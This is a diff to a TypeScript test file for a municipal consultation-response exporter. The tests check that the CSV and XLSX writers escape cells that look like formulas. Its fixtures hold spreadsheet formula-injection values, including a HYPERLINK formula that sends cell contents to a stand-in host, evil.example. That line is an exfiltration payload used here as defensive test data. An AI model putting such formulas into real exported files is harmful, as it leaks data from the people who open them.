@@ -61,7 +61,7 @@ const hostile: ResponseRow[] = [HYPERLINK, '+1+1', '-600', '@SUM(A1)', '\t=1', '
 
 describe('formulas in the CSV', () => {
   it('are written as quoted text with a leading apostrophe, every other cell unchanged', async () => {
-    const text = await writeResponsesCsv({ full: true, rows: hostile, labels });
+    const text = await writeResponsesCsv({ issuer: 'Æbeltoft Kommune', full: true, rows: hostile, labels });
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Se bilag"")"`);
     const parsed: string[][] = parse(text.slice(1), { delimiter: ';' });
     expect(parsed.slice(1).map((row) => row[5])).toEqual(hostile.map((row) => `'${row.comment}`));
@@ -73,7 +73,7 @@ describe('formulas in the CSV', () => {
 describe('writeResponsesXlsx', () => {
   it('keeps a comment that looks like a formula a text cell', async () => {
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await writeResponsesXlsx({ full: true, rows: hostile, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
+    await workbook.xlsx.load((await writeResponsesXlsx({ issuer: 'Æbeltoft Kommune', full: true, rows: hostile, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
     const cell = workbook.worksheets[0]!.getRow(2).getCell(6);
     expect(cell.type).toBe(ExcelJS.ValueType.String);
     expect(cell.value).toBe(HYPERLINK);
